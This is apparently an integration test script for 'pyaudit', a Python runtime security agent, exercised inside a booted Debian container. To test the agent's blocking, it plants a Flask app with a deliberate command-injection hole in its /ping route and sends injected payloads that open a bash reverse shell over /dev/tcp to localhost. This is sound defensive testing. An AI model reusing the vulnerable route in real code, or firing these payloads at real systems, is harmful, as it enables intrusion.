#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""What tests/packages.sh does with a booted Debian: packages.py DIRECTORY. Everything is asked for from outside:
HTTP, the journal's files, the directory of the system; inside run only the commands of an administrator."""
import hashlib
import json
import os
import pathlib
import platform
import pty
import re
import select
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request

from documents import commands

NSPAWN = ["systemd-nspawn", "--quiet", "--hostname=localhost", "--register=no", "--keep-unit", "--resolv-conf=off",
          "--timezone=off", "--console=read-only", "-b", "-D"]
UNIT = "myapp.service"  # as in docs/INSTALL.md
APP = """
import ctypes
import os
import subprocess
import flask

app = flask.Flask("shop")

@app.route("/")
def index():
    return "ok"

@app.route("/ping")
def ping():
    return str(os.system("true " + flask.request.args["host"]))

BARE = [b"/usr/bin/python3", b"-I", b"-S"]

@app.route("/child")
def child():
    # A Python that knows nothing of this one, and does what it reads.
    code = "import os; os.system(%r)" % ("true " + flask.request.args["host"])
    return subprocess.run(BARE, input=code.encode(), env={}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT).stdout

@app.route("/left")
def left():
    # The same past libc, where no preload goes along: its process.
    argv = (ctypes.c_char_p * 6)(*BARE, b"-c", b"import time; time.sleep(15)", None)
    child = os.fork()
    if child == 0:
        ctypes.CDLL(None).syscall(@EXECVE@, argv[0], argv, (ctypes.c_char_p * 1)(None))
        os._exit(1)
    return str(child)
"""
EXECVE = {"x86_64": "59", "aarch64": "221"}
# A unit that itself takes care to have neither environment nor site.
BARE = "bare.service"
BARE_SERVICE = """
[Service]
ExecStart=/usr/bin/env -i /usr/bin/python3 -I -S -c 'import time; time.sleep(100000)'
"""
SERVICE = """
[Unit]
Description=A shop that was here before
[Service]
WorkingDirectory=/srv/shop
ExecStart=/usr/bin/gunicorn --workers 2 --bind 127.0.0.1:%d shop:app
User=www-data
[Install]
WantedBy=multi-user.target
"""
# A container sees the command line of the kernel it runs on: this is another's.
CMDLINE_SERVICE = """
[Unit]
DefaultDependencies=no
Before=sysinit.target
[Service]
Type=oneshot
ExecStart=/bin/mount --bind /root/cmdline /proc/cmdline
"""
# Instead of a person who answers.
APT = """
APT::Get::Assume-Yes "true";
quiet "2";
"""
# A unit that gets a profile: in it this act is refused, without it is none of the rules' business.
NOTEBOOK = "notebook.service"
NOTEBOOK_SERVICE = """
[Service]
ExecStart=/usr/bin/python3 -c 'import os, time; os.system("true"); print("it ran", flush=True); time.sleep(100000)'
"""
# What an installation may leave: the package manager's own memory, and what any boot writes.
NOT_COMPARED = re.compile(r"^/(proc|sys|dev|run|tmp|var/tmp|root|var/log|var/cache|var/lib/(apt|dpkg|systemd|dbus|ucf|logrotate)|"
                          r"srv/shop/__pycache__|etc/(machine-id|\.updated|.*-|.*cache|hostname|mtab|resolv\.conf|subuid|subgid))(/|$)")
EXPOSURE_MAX = 1.5


class Failed(Exception):
    pass


class Host:
    def __init__(self, root):
        self.root = pathlib.Path(root).resolve()
        self.port = free_port()
        self.process = None

    # The system

    def boot(self):
        self.log = open(str(self.root) + ".console", "wb")
        name = "--machine=" + "-".join(self.root.parts[-2:]).replace(".", "-")
        self.process = subprocess.Popen(NSPAWN + [str(self.root), name], stdin=subprocess.DEVNULL, stdout=self.log,
                                        stderr=self.log)
        self.wait_for_boot()

    def leader(self):
        with open("/proc/%d/task/%d/children" % (self.process.pid, self.process.pid)) as children:
            found = children.read().split()
        return int(found[0]) if found else None

    def wait_for_boot(self, other_than=None):
        def is_up():
            if self.process.poll() is not None:
                raise Failed("systemd does not boot: " + pathlib.Path(self.log.name).read_text("utf-8", "replace")[-2000:])
            leader = self.leader()
            if leader is None or leader == other_than:
                return False
            state = self.run("systemctl", "is-system-running", check=False).stdout.strip()
            return state in ("running", "degraded")
        wait(is_up, "the system boots", 120)

    def reboot(self):
        before = self.leader()
        self.run("systemctl", "reboot", check=False)
        wait(lambda: self.process.poll() is not None or self.leader() not in (None, before), "the system goes down", 120)
        if self.process.poll() is None:
            self.wait_for_boot(other_than=before)
        elif self.process.returncode == 133:  # a reboot, left to whoever started nspawn
            self.boot()
        else:
            raise Failed("systemctl reboot: nspawn ends with %d" % self.process.returncode)

    def end(self):
        if self.process is not None and self.process.poll() is None:
            self.process.terminate()
            try:
                self.process.wait(30)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()

    def inside(self, *command):
        return ["nsenter", "-t", str(self.leader()), "-m", "-u", "-i", "-p", "-r", "-w", "env", "-i", "TERM=dumb",
                "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "HOME=/root", "LANG=C.UTF-8",
                "DEBIAN_FRONTEND=noninteractive", "APT_CONFIG=/root/apt.conf"] + list(command)

    def run(self, *command, check=True):
        done = subprocess.run(self.inside(*command), stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                              stderr=subprocess.STDOUT, timeout=300, universal_newlines=True)
        if check and done.returncode:
            raise Failed("%s: exit status %d\n%s" % (" ".join(command), done.returncode, done.stdout[-3000:]))
        return done

    def told(self, folder, *lines):
        """What a document says, as it stands there. Returns the last one's output."""
        for line in lines:
            done = self.run("sh", "-ec", "cd %s && %s" % (folder, line))
        return done.stdout

    def show(self, unit, name):
        return self.run("systemctl", "show", "-P", name, unit).stdout.strip()

    def path(self, name):
        return self.root / name.lstrip("/")

    def journal(self, *matches):
        done = subprocess.run(["journalctl", "-D", str(self.path("/var/log/journal")), "-o", "json", "--no-pager", "-q"]
                              + list(matches), stdout=subprocess.PIPE, universal_newlines=True, timeout=60)
        return [json.loads(line) for line in done.stdout.splitlines()]

    # The service

    def get(self, what):
        try:
            with urllib.request.urlopen("http://127.0.0.1:%d%s" % (self.port, what), timeout=30) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, ""
        except OSError as error:
            return 0, str(error)

    def attack(self, number, way="/ping"):
        """A command injection: a file that says that it worked, then a shell over the network."""
        host = "; touch /srv/shop/data/owned-%d; bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'" % number
        status, said = self.get(way + "?host=" + urllib.parse.quote(host))
        owned = self.path("/srv/shop/data/owned-%d" % number).exists()
        return (status, owned) if way == "/ping" else (status, owned, said)

    def alerts(self, number=None):
        found = self.journal("-u", UNIT, "PYAUDIT_ACTION=block")
        return [e for e in found if number is None or "owned-%d;" % number in e["MESSAGE"]]

    def files(self):
        found = {}
        for folder, folders, names in os.walk(str(self.root)):
            for name in folders + names:
                path = os.path.join(folder, name)
                shown = path[len(str(self.root)):]
                if NOT_COMPARED.match(shown):
                    continue
                info = os.lstat(path)
                content = ""
                if os.path.islink(path):
                    content = os.readlink(path)
                elif os.path.isfile(path):
                    content = hashlib.sha256(pathlib.Path(path).read_bytes()).hexdigest()
                found[shown] = (oct(info.st_mode), info.st_uid, info.st_gid, content)
            folders[:] = [f for f in folders if not NOT_COMPARED.match(os.path.join(folder, f)[len(str(self.root)):])]
        return found


def free_port():
    with socket.socket() as listening:
        listening.bind(("127.0.0.1", 0))
        return listening.getsockname()[1]


def wait(condition, what, seconds=30):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        got = condition()
        if got:
            return got
        time.sleep(0.2)
    raise Failed("waited in vain: " + what)


def check(holds, what):
    if not holds:
        raise Failed(what)
    print("ok: " + what, flush=True)


def refused(host, number, when):
    """The act is refused, the request fails, the service lives, the alert is in the journal of that unit."""
    main_pid, restarts = host.show(UNIT, "MainPID"), host.show(UNIT, "NRestarts")
    status, owned = host.attack(number)
    check(status == 500 and not owned, "%s: the act is refused, the request fails with 500" % when)
    check(host.get("/") == (200, "ok") and host.show(UNIT, "MainPID") == main_pid and host.show(UNIT, "NRestarts") == restarts,
          "%s: the service lives, with the same main process" % when)
    entry = wait(lambda: host.alerts(number), "the alert of attack %d" % number)[0]
    check(entry["PYAUDIT_RULE"] == "reverse-shell" and entry["PYAUDIT_CALLER_FILE"] == "/srv/shop/shop.py" and
          entry["PYAUDIT_UNIT"] == UNIT and entry["_UID"] == "0", "%s: journalctl -u %s has the alert" % (when, UNIT))


class Traffic(threading.Thread):
    """Attacks one after the other, each with a number, while something happens to the daemon."""

    def __init__(self, host, first):
        super().__init__(daemon=True)
        self.host, self.first, self.answers, self.stopping = host, first, [], False

    def run(self):
        while not self.stopping:
            self.answers.append(self.host.attack(self.first + len(self.answers)))
            time.sleep(0.02)

    def __enter__(self):
        self.start()
        wait(lambda: len(self.answers) > 5, "traffic")
        return self

    def __exit__(self, *error):
        enough = len(self.answers) + 5
        if error[0] is None:
            wait(lambda: len(self.answers) > enough, "traffic goes on")
        self.stopping = True
        self.join(60)
        # What was recorded without a daemon stands in the agent's ring; it looks for the next one at an event, at most once
        # a second. Each worker gets one.
        time.sleep(1.5)
        while error[0] is None and len(self.answers) < enough + 30:
            self.answers.append(self.host.attack(self.first + len(self.answers)))

    def check(self, when):
        host, wanted = self.host, range(self.first, self.first + len(self.answers))
        check(set(self.answers) == {(500, False)}, "%s: %d attacks meanwhile, each refused" % (when, len(self.answers)))

        def missing():
            told = {int(n) for e in host.alerts() for n in re.findall(r"owned-(\d+);", e["MESSAGE"])}
            return [n for n in wanted if n not in told]
        def lost():
            return sum(int(e["PYAUDIT_LOST"]) for e in host.journal("MESSAGE_ID=f540f6c6d49c47e19e5e6004b27e0f43"))
        try:
            wait(lambda: not missing(), "alerts")
        except Failed:
            check(False, "%s: of %d alerts these are missing, and %d were told as lost: %s" % (when, len(wanted), lost(), missing()))
        check(True, "%s: all of the %d alerts are in the journal" % (when, len(wanted)))


def prepare(host):
    data = host.path("/srv/shop/data")
    data.mkdir(parents=True)
    os.chmod(str(data), 0o777)
    host.path("/srv/shop/shop.py").write_text(APP.replace("@EXECVE@", EXECVE[platform.machine()]))
    host.path("/etc/systemd/system/" + UNIT).write_text(SERVICE % host.port)
    host.path("/etc/systemd/system/" + BARE).write_text(BARE_SERVICE)
    host.path("/etc/systemd/system/" + NOTEBOOK).write_text(NOTEBOOK_SERVICE)
    host.path("/root/apt.conf").write_text(APT)
    host.path("/var/log/journal").mkdir(parents=True, exist_ok=True)
    host.path("/etc/machine-id").write_text("")
    wants = host.path("/etc/systemd/system/multi-user.target.wants")
    wants.mkdir(parents=True, exist_ok=True)
    (wants / UNIT).symlink_to("/etc/systemd/system/" + UNIT)


def serves(host):
    wait(lambda: host.get("/") == (200, "ok"), "the service answers", 60)


def exposures(host):
    for unit in ("pyauditd.service", "pyaudit-journal.service"):
        said = host.run("systemd-analyze", "security", "--no-pager", unit, check=False).stdout
        exposure = float(re.search(r"exposure level for \S+: ([0-9.]+)", said).group(1))
        check(exposure <= EXPOSURE_MAX, "systemd-analyze security %s: %.1f" % (unit, exposure))
    check(host.show("pyauditd", "User") == "pyaudit", "pyauditd runs as a user of its own")
    check(host.show("pyauditd", "LogRateLimitIntervalUSec") in ("0", "infinity"), "journald does not limit it")


def install(host):
    packages, service, front = commands("INSTALL.md", "Debian 12 and 13")[1:4]
    host.run("apt-get", "update")
    started = time.monotonic()
    host.told("/root/old", packages, service, front)
    serves(host)
    status, owned = host.attack(2)
    wait(lambda: host.alerts(2), "the first alert")
    seconds = time.monotonic() - started
    check(status == 500 and not owned and seconds < 60,
          "from installation to a watched, alerting service: three commands, %.1f s" % seconds)


def bare(host):
    """A Python that is started with -I -S and an empty environment."""
    status, owned, said = host.attack(4, "/child")
    check(status == 200 and not owned and "PermissionError" in said, "-I -S, no environment, started by the service: refused")
    entry = wait(lambda: host.alerts(4), "the alert of the child")[0]
    check(entry["PYAUDIT_RULE"] == "reverse-shell" and entry["PYAUDIT_UNIT"] == UNIT, "its alert is in the journal of the unit")

    host.run("pyauditctl", "enable", BARE)
    host.run("systemctl", "start", BARE)
    program = host.show(BARE, "MainPID")

    def row():
        rows = [json.loads(line) for line in host.run("pyauditctl", "ps", "--json", check=False).stdout.splitlines()]
        return [r for r in rows if str(r.get("pid")) == program and r["watched"]]
    wait(row, "pyauditctl ps to show the Python of " + BARE)
    check(True, "-I -S, no environment, by `env -i` in ExecStart: watched")
    host.run("systemctl", "stop", BARE)
    host.run("pyauditctl", "disable", BARE)

    begun = time.time()
    status, pid = host.get("/left")
    check(status == 200, "-I -S, no environment, by the bare system call: it runs")
    entry = wait(lambda: host.journal("-u", UNIT, "PYAUDIT_EVENT=pyaudit.unwatched"), "the report of %s" % pid)[0]
    seconds = int(entry["__REALTIME_TIMESTAMP"]) / 1e6 - begun
    check(entry["PYAUDIT_PID"] == pid and seconds < 2, "it is reported as not watched after %.1f s" % seconds)


def rotation(host):
    host.run("sed", "-i", "s/^#ndjson/ndjson/", "/etc/pyaudit/pyauditd.conf")
    host.run("systemctl", "restart", "pyauditd")
    log, rotated = host.path("/var/log/pyaudit/events.ndjson"), host.path("/var/log/pyaudit/events.ndjson.1")

    def has(path, number):
        return path.exists() and "owned-%d;" % number in path.read_text()
    for number, path in ((11, log), (12, log)):
        host.attack(number)
        wait(lambda: has(log, number), "attack %d in %s" % (number, log.name))
        if number == 11:
            host.run("logrotate", "--force", "/etc/logrotate.d/pyauditd")
    host.run("logrotate", "--debug", "/etc/logrotate.d/pyauditd")
    info = log.stat()
    check(has(rotated, 11) and not has(rotated, 12) and not has(log, 11), "logrotate takes the file, the daemon goes on in a new one")
    check(info.st_uid != 0 and info.st_mode & 0o027 == 0, "the new file is the daemon's, and not for everyone")
    for path in (log, rotated):
        for line in path.read_text().splitlines():
            json.loads(line)
    host.run("sed", "-i", "s/^ndjson/#ndjson/", "/etc/pyaudit/pyauditd.conf")
    host.run("systemctl", "restart", "pyauditd")


def completion(host):
    """What a person sees who types in zsh and presses the tab key."""
    pid, terminal = pty.fork()
    if pid == 0:
        command = host.inside("zsh", "-f", "-i")
        os.execvp(command[0], command)
    seen = b""

    def shows(text):
        nonlocal seen
        while select.select([terminal], [], [], 0)[0]:
            seen += os.read(terminal, 65536)
        return text.encode() in seen
    try:
        os.write(terminal, b"autoload -U compinit; compinit -u -D; unsetopt beep; echo rea''dy\n")
        wait(lambda: shows("ready\r\n"), "zsh")
        for typed, wanted in (("pyauditctl relo", "pyauditctl reload "), ("pyauditctl enable --mode obs", "--mode observe "),
                              ("pyauditctl disable mya", "disable " + UNIT), ("pyauditctl rules che", "rules check ")):
            seen = b""
            os.write(terminal, b"\x15" + typed.encode() + b"\t")
            try:
                wait(lambda: shows(wanted), "completion of '%s'" % typed)
            except Failed as failure:
                raise Failed("%s: %r" % (failure, seen))
        check(True, "zsh completes commands, options, values and units")
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
        os.close(terminal)


def boot_parameter(host):
    """pyaudit=off on the kernel's command line: what a host has that does not come up with the agent."""
    host.end()
    cmdline, unit = host.path("/root/cmdline"), host.path("/etc/systemd/system/cmdline.service")
    cmdline.write_text("BOOT_IMAGE=/vmlinuz root=/dev/vda ro pyaudit=off quiet\n")
    unit.write_text(CMDLINE_SERVICE)
    wants = host.path("/etc/systemd/system/sysinit.target.wants/cmdline.service")
    wants.symlink_to("/etc/systemd/system/cmdline.service")
    host.boot()
    serves(host)
    check(host.attack(22) == (200, True), "booted with pyaudit=off: the agent is in no program, the service runs")
    check("pyaudit=off" in host.run("pyauditctl", "ps").stdout, "pyauditctl ps says why")
    host.path("/srv/shop/data/owned-22").unlink()
    host.end()
    for path in (cmdline, unit, wants):
        path.unlink()
    host.boot()
    serves(host)
    refused(host, 23, "booted without it")


def upgrade(host):
    main_pid, daemon = host.show(UNIT, "MainPID"), host.show("pyauditd", "MainPID")
    packages, *questions = commands("UPGRADING.md", "Upgrading")
    with Traffic(host, 1000) as traffic:
        host.told("/root/new", packages)
    check(host.show("pyauditd", "MainPID") != daemon, "the upgrade starts the new daemon")
    check(host.show(UNIT, "MainPID") == main_pid, "the upgrade does not start the service anew")
    traffic.check("upgrade")
    host.told("/root", *questions)


def restart(host):
    with Traffic(host, 3000) as traffic:
        host.run("systemctl", "restart", "pyauditd")
        host.run("systemctl", "restart", "pyaudit-journal.service")
    traffic.check("restart of both daemons")
    with Traffic(host, 5000) as traffic:
        host.run("systemctl", "reload", "pyauditd")
    traffic.check("reload")


def sockets(host):
    """systemd holds the sockets: whoever comes starts the daemon, unless they are stopped as well."""
    units = ("pyauditd.service", "pyauditd.socket", "pyauditd-control.socket")

    def states():
        return [host.show(unit, "ActiveState") for unit in units]
    check(states() == ["active"] * 3 and host.run("systemctl", "is-enabled", *units).stdout.split() == ["enabled"] * 3,
          "service and sockets are active and enabled")
    stop, start = commands("OPERATIONS.md", "The service")
    host.told("/root", stop)
    check(states() == ["inactive"] * 3 and host.attack(25) == (500, False), "sockets stopped: the daemon ends with them, the act is refused")
    time.sleep(1.5)
    check(host.attack(26) == (500, False) and states() == ["inactive"] * 3, "sockets stopped: nobody starts it")
    host.told("/root", start)
    check(states() == ["active"] * 3, "the daemon starts its sockets")
    host.run("systemctl", "stop", "pyauditd")
    host.run("pyauditctl", "status")
    check(states() == ["active"] * 3, "pyauditctl starts a daemon that was stopped")
    wait(lambda: host.attack(27) and host.alerts(27), "the alert of attack 27")
    host.run("rm", "/run/pyaudit/agent.sock")
    wait(lambda: host.run("test", "-S", "/run/pyaudit/agent.sock", check=False).returncode == 0, "the socket is made anew", 10)
    host.run("systemctl", "restart", UNIT)
    serves(host)
    refused(host, 28, "by a socket that was made anew")
    host.run("systemctl", "restart", "pyauditd.socket")
    wait(lambda: states() == ["active"] * 3, "the daemon comes back with its socket")
    check(True, "systemctl restart pyauditd.socket")


def metrics(host):
    """A file that whoever collects metrics can read, and only while a daemon keeps it new."""
    folder, dropin = host.path("/var/lib/prometheus"), host.path("/etc/pyaudit/pyauditd.conf.d")
    (folder / "node-exporter").mkdir(parents=True)
    (dropin / "metrics.conf").write_text("metrics = /run/pyaudit/pyaudit.prom\nmetrics_s = 1\n")
    host.run("systemctl", "restart", "pyauditd")
    link, = commands("OPERATIONS.md", "Metrics")
    host.told("/root", link)

    def text():
        return host.run("setpriv", "--reuid=www-data", "--clear-groups", "--regid=www-data", "cat",
                        "/var/lib/prometheus/node-exporter/pyaudit.prom", check=False).stdout
    wait(lambda: text().endswith("# EOF\n"), "metrics in the file")
    host.attack(29)
    wait(lambda: re.search(r'^pyaudit_rule_hits_total{rule="reverse-shell"} [1-9]', text(), re.M), "the rule to count")
    (dropin / "metrics.conf").unlink()
    host.run("systemctl", "restart", "pyauditd")
    check(not text().startswith("#"), "metrics are in their file, for every user, as long as the daemon writes it")
    host.run("rm", "-r", "/var/lib/prometheus")


def without_journald(host):
    sockets = ["systemd-journald.socket", "systemd-journald-dev-log.socket", "systemd-journald-audit.socket"]
    host.run("systemctl", "stop", "systemd-journald.service", *sockets, check=False)
    host.run("systemctl", "restart", "pyauditd")
    check(host.attack(20) == (500, False), "without journald: pyauditd starts, and the act is refused")
    host.run("systemctl", "start", *sockets[:2], "systemd-journald.service")
    wait(lambda: host.alerts(20), "the alert, when journald is there again")
    check(True, "without journald: the alert is there when journald is")


def profile(host):
    """Rules that a unit has for itself."""
    def starts(*command):
        host.run(*command)
        begun = time.time()
        host.run("systemctl", "restart", NOTEBOOK)
        said = wait(lambda: [e["MESSAGE"] for e in host.journal("-u", NOTEBOOK, "_COMM=python3", "--since=@%f" % begun)
                             if e["MESSAGE"] == "it ran" or e["MESSAGE"].startswith("PermissionError")], "what %s says" % NOTEBOOK)
        return said[0]
    check(starts("pyauditctl", "enable", NOTEBOOK) == "it ran", "enabled: the host's rules let it pass")
    rows = [json.loads(line) for line in host.run("pyauditctl", "ps", "--json", check=False).stdout.splitlines()]
    check([r["profile"] for r in rows if r.get("unit") == NOTEBOOK] == ["server"], "pyauditctl ps tells the host's profile")
    said = starts("pyauditctl", "enable", "--profile", "agent", NOTEBOOK)
    check("'agent-program' denied" in said, "enable --profile agent: it is refused there")
    check(host.get("/ping?host=x") == (200, "0"), "enable --profile agent: not in another unit")
    check(starts("pyauditctl", "disable", NOTEBOOK) == "it ran", "disabled: it passes")
    host.run("systemctl", "stop", NOTEBOOK)
    check(not list(host.path("/etc/pyaudit/pyauditd.conf.d").glob("*notebook*")), "disabled: no setting is left")


def operations(host):
    """What an operator is told to do, where it is told for: on a host with the service."""
    lines = commands("OPERATIONS.md", "Day to day") + commands("OPERATIONS.md", "Tuning")
    for line in lines:
        host.told("/root", line)
    check(len(lines) > 10, "%d commands of docs/OPERATIONS.md do what it says" % len(lines))


def watchdog(host):
    """A daemon that is frozen is noticed and replaced."""
    dropin = host.path("/run/systemd/system/pyauditd.service.d")
    host.run("sh", "-c", "mkdir -p /run/systemd/system/pyauditd.service.d; "
             "printf '[Service]\\nWatchdogSec=3\\n' >/run/systemd/system/pyauditd.service.d/watchdog.conf; "
             "systemctl daemon-reload; systemctl restart pyauditd")
    frozen = host.show("pyauditd", "MainPID")
    host.run("systemctl", "kill", "--kill-whom=main", "--signal=STOP", "pyauditd")
    wait(lambda: host.show("pyauditd", "MainPID") not in (frozen, "0") and
         host.show("pyauditd", "ActiveState") == "active", "the watchdog replaces a frozen daemon", 60)
    check(not dropin.exists(), "a frozen daemon is replaced by the watchdog")
    host.run("sh", "-c", "rm -r /run/systemd/system/pyauditd.service.d; systemctl daemon-reload")


def purge(host):
    before = host.before
    host.run("pyauditctl", "enable", "--restart", UNIT)
    serves(host)
    refused(host, 31, "enabled again")
    host.run("pyauditctl", "enable", "--host")
    host.run("pyauditctl", "activate", "/usr/bin/python3")
    check(host.path("/etc/ld.so.preload").exists(), "the agent is also in front of the host, and in /usr/bin/python3")
    host.told("/root", *commands("INSTALL.md", "Removing"))
    host.run("apt-get", "autoremove", "--purge")
    host.run("systemctl", "restart", UNIT)
    serves(host)
    status, owned = host.attack(32)
    check(status == 200 and owned, "after the purge nothing is refused")
    for number in (1, 30, 32):
        host.path("/srv/shop/data/owned-%d" % number).unlink()
    after = host.files()
    differ = sorted(name for name in set(before) | set(after) if before.get(name) != after.get(name))
    for name in differ:
        print("differs: %s: %s, then %s" % (name, before.get(name), after.get(name)))
    check(not differ, "after the purge the file system is as it was (%d files compared)" % len(after))


def before(host):
    prepare(host)
    host.boot()
    serves(host)
    status, owned = host.attack(1)
    check(status == 200 and owned, "before: the service can be attacked")
    host.before = {name: entry for name, entry in host.files().items() if not name.startswith("/srv/shop/data/")}


def enabled(host):
    refused(host, 3, "enabled")
    check(host.journal("-u", "pyauditd", "PYAUDIT_EVENT=daemon.start"), "journalctl -u pyauditd tells of its start")
    of_unit, explained, status = (host.told("/root", line) for line in commands("INSTALL.md", "Debian 12 and 13")[4:])
    check("owned-3;" in of_unit, "journalctl -u %s shows it to a person" % UNIT)
    check("was denied an act" in explained, "journalctl -x explains the alert")
    check("denied" in status, "pyauditctl status tells of it")


def rebooted(host):
    host.reboot()
    serves(host)
    refused(host, 21, "after a reboot")


def disabled(host):
    host.run("pyauditctl", "disable", UNIT)
    host.run("systemctl", "restart", UNIT)
    serves(host)
    status, owned = host.attack(30)
    check(status == 200 and owned, "disabled: nothing is refused")
    check(not list(host.path("/etc/systemd/system").glob(UNIT + ".d*")), "disabled: no drop-in is left")


# What the next ones stand on ends the story; of the others each has its say.
STORY = (before, install, enabled)
CHAPTERS = (exposures, bare, completion, upgrade, restart, sockets, metrics, rotation, profile, operations, without_journald, watchdog,
            rebooted, boot_parameter, disabled, purge)


def tell_of(host):
    for command in (["systemctl", "--failed", "--no-pager"], ["systemctl", "status", "pyauditd", UNIT, "--no-pager", "-l"],
                    ["journalctl", "-n", "80", "--no-pager"]):
        try:
            print(host.run(*command, check=False).stdout)
        except (OSError, ValueError, subprocess.SubprocessError):
            pass


def main():
    host = Host(sys.argv[1])
    failed = False
    try:
        for chapter in STORY + CHAPTERS:
            try:
                chapter(host)
            except Failed as failure:
                print("NOT OK: %s: %s" % (chapter.__name__, failure))
                tell_of(host)
                failed = True
                if chapter in STORY:
                    break
    finally:
        host.end()
    return 1 if failed else 0


if __name__ == "__main__":
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(1))
    sys.exit(main())
